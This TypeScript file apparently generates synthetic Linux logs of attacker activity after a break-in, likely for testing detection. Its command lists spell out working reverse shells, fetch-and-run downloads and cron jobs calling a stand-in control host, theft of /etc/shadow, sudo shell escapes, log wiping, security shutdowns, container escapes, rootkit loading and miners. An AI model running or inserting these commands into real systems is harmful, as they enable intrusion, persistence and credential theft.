/** What is done on a machine by those who got in: accounts, commands, things that stay. */
import type { Kind, Scene } from '../kind.ts';
import { cron, sshLogin, sudo } from '../logs.ts';

const CONTROL = '203.0.113.66';

/** Comes in by ssh, as somebody who is known, and runs one of the commands by sudo. */
function runs(name: string, sentence: string, commands: readonly string[]): Kind {
  return {
    name,
    sentence,
    happen(scene) {
      const user = scene.user();
      const atMs = scene.at(scene.random.int(7, 20));
      scene.innocently(() => sshLogin(scene, atMs, { user, source: scene.colleague() }));
      sudo(scene, atMs + 30_000, user, scene.random.pick(commands));
    },
  };
}

function says(scene: Scene, program: string, messages: readonly string[]): void {
  const atMs = scene.at(scene.random.int(7, 20));
  for (const [index, message] of messages.entries())
    scene.syslog({
      atMs: atMs + index * 4000,
      program,
      ...(program === 'sudo' ? {} : { pid: scene.pid() }),
      message,
    });
}

export const ACCOUNTS: readonly Kind[] = [
  {
    name: 'account_like_root',
    sentence: 'an account is made that has the number of root',
    happen: (scene) =>
      says(scene, 'useradd', [
        'new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
      ]),
  },
  {
    name: 'account_gets_privileges',
    sentence: 'an account is put into a group that may do all',
    happen: (scene) =>
      says(scene, 'usermod', [
        `add 'mallory' to group '${scene.random.pick(['sudo', 'wheel', 'docker', 'adm'])}'`,
      ]),
  },
  {
    name: 'sudo_guessing',
    sentence: 'somebody guesses the password that sudo asks for',
    happen: (scene) =>
      says(
        scene,
        'sudo',
        Array.from(
          { length: 6 },
          () =>
            ' www-data : 3 incorrect password attempts ; TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash',
        ),
      ),
  },
  {
    name: 'sudo_not_allowed',
    sentence: 'somebody who may not uses sudo',
    happen: (scene) =>
      says(scene, 'sudo', [
        ' mallory : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh',
        ' mallory : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id',
      ]),
  },
  {
    name: 'su_guessing',
    sentence: 'somebody guesses the password of root with su',
    happen: (scene) =>
      says(
        scene,
        'su',
        Array.from({ length: 8 }, () => 'FAILED SU (to root) mallory on pts/0'),
      ),
  },
  {
    name: 'pkexec_exploit',
    sentence: 'pkexec is started with an environment that makes it give root away',
    happen: (scene) =>
      says(scene, 'pkexec', [
        'mallory: The value for the SHELL variable was not found in the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=./kit.so:. PATH=GCONV_PATH=. SHELL=/x/y CHARSET=kit]',
      ]),
  },
];

export const COMMANDS: readonly Kind[] = [
  runs('reverse_shell', 'a shell calls back', [
    `/bin/bash -c bash -i >& /dev/tcp/${CONTROL}/4444 0>&1`,
    `/usr/bin/perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("${CONTROL}")));exec("/bin/sh -i");`,
    `/usr/bin/php -r $s=fsockopen("${CONTROL}",4444);exec("sh <&3 >&3 2>&3");`,
    `/usr/bin/ruby -rsocket -e c=TCPSocket.new("${CONTROL}","4444");while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end`,
    `/usr/bin/socat TCP:${CONTROL}:4444 EXEC:/bin/sh,pty,stderr`,
    `/bin/sh -c rm -f /tmp/p;mkfifo /tmp/p;cat /tmp/p|/bin/sh -i 2>&1|openssl s_client -quiet -connect ${CONTROL}:443 >/tmp/p`,
    `/usr/bin/awk BEGIN{s="/inet/tcp/0/${CONTROL}/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}`,
    `/usr/bin/nc -e /bin/sh ${CONTROL} 4444`,
    `/usr/bin/python3 -c import socket,os,pty;s=socket.create_connection(("${CONTROL}",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")`,
  ]),
  runs('shell_by_sudo', 'a program that sudo allows opens a shell of root', [
    '/usr/bin/vim -c :!/bin/sh',
    '/usr/bin/find . -exec /bin/sh ; -quit',
    '/usr/bin/awk BEGIN {system("/bin/sh")}',
    '/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh',
    '/usr/bin/python3 -c import os; os.system("/bin/sh")',
    '/usr/bin/perl -e exec "/bin/sh";',
    '/usr/bin/env /bin/sh',
    '/usr/bin/man -P /bin/sh man',
    '/usr/bin/zip /tmp/a.zip /etc/hosts -T --unzip-command=sh -c /bin/sh',
    '/usr/bin/git -p help config',
    '/usr/bin/nmap --interactive',
    '/usr/bin/flock -u / /bin/sh',
  ]),
  runs('download_that_runs', 'something is fetched and run at once', [
    `/bin/sh -c curl -s http://${CONTROL}/i.sh | bash`,
    `/bin/bash -c bash <(wget -qO- http://${CONTROL}/i)`,
    `/usr/bin/wget http://${CONTROL}/x -O /dev/shm/.x`,
    `/bin/sh -c cd /tmp; curl -O http://${CONTROL}/m; chmod 777 m; ./m`,
    '/bin/sh -c echo Y3VybCBodHRwOi8veC54L3ggfHNo | base64 -d | sh',
    `/usr/bin/python3 -c import urllib.request;exec(urllib.request.urlopen("http://${CONTROL}/p").read())`,
  ]),
  runs('things_that_stay', 'a way back in is laid', [
    '/usr/bin/tee -a /root/.ssh/authorized_keys',
    '/bin/sh -c echo /lib/libx.so > /etc/ld.so.preload',
    '/bin/sh -c echo "mallory ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
    '/usr/bin/tee /etc/cron.d/sync',
    '/bin/sh -c echo /opt/.x/run & >> /etc/rc.local',
    '/usr/bin/cp /tmp/.svc /etc/systemd/system/dbus-sync.service',
    '/usr/bin/tee /etc/profile.d/env.sh',
    `/bin/sh -c (crontab -l; echo "* * * * * curl http://${CONTROL}/c | sh") | crontab -`,
  ]),
  runs('traces_removed', 'logs and history are deleted', [
    '/usr/bin/rm -f /var/log/auth.log',
    '/usr/bin/truncate -s 0 /var/log/wtmp',
    '/bin/sh -c > /var/log/syslog',
    '/usr/bin/shred -u /root/.bash_history',
    '/usr/bin/ln -sf /dev/null /root/.bash_history',
    '/usr/bin/journalctl --rotate --vacuum-time=1s',
    '/usr/bin/sed -i /203.0.113.66/d /var/log/auth.log',
  ]),
  runs('protection_off', 'what protects the machine is switched off', [
    '/usr/sbin/ufw disable',
    '/usr/sbin/iptables -F',
    '/usr/sbin/setenforce 0',
    '/usr/bin/systemctl stop auditd',
    '/usr/bin/systemctl disable --now fail2ban',
    '/usr/sbin/auditctl -e 0',
    '/usr/bin/systemctl stop rsyslog',
    '/usr/sbin/nft flush ruleset',
  ]),
  runs('privileges_laid_aside', 'a file keeps the privileges of root for later', [
    '/usr/bin/chmod u+s /bin/bash',
    '/usr/bin/chmod 4755 /tmp/.sh',
    '/usr/sbin/setcap cap_setuid+ep /usr/bin/python3',
    '/usr/bin/chmod 777 /etc/passwd',
  ]),
  runs('out_of_the_container', 'the machine is reached from a container', [
    '/usr/bin/docker run -v /:/mnt --rm -it alpine chroot /mnt sh',
    '/usr/bin/docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh',
    '/usr/bin/nsenter -t 1 -m -u -i -n -p sh',
    '/usr/bin/docker -H tcp://127.0.0.1:2375 run -v /:/host alpine',
  ]),
  runs('miner', 'the machine earns money for others', [
    '/tmp/xmrig -o stratum+tcp://pool.example.net:3333 -u 44abc -p x',
    '/usr/bin/nohup /dev/shm/kworker --donate-level 1 -o pool.example.net:443 --coin monero',
    '/usr/bin/minerd -a cryptonight -o stratum+tcp://pool.example.net:80',
  ]),
  runs('hashes_taken', 'the hashes of passwords are taken away', [
    '/usr/bin/cat /etc/shadow',
    `/usr/bin/curl -F f=@/etc/shadow http://${CONTROL}/u`,
    '/usr/bin/base64 /etc/shadow',
    '/usr/sbin/unshadow /etc/passwd /etc/shadow',
    '/usr/bin/tail -n 40 /etc/shadow',
  ]),
  runs('module_loaded', 'a module is loaded from a folder for temporary files', [
    '/usr/sbin/insmod /tmp/diamorphine.ko',
    '/usr/sbin/insmod /dev/shm/rk.ko',
    '/usr/sbin/modprobe -d /tmp rk',
  ]),
  {
    name: 'timetable_that_calls_out',
    sentence: 'cron fetches a script and runs it, all day',
    happen(scene) {
      for (let minute = 0; minute < 120; minute += 5)
        cron(
          scene,
          scene.at(4, minute),
          'root',
          scene.random.pick([
            `curl -fsSL http://${CONTROL}/u.sh | sh`,
            `(wget -qO - http://${CONTROL}/u || curl http://${CONTROL}/u) | bash > /dev/null 2>&1`,
          ]),
        );
    },
  },
];
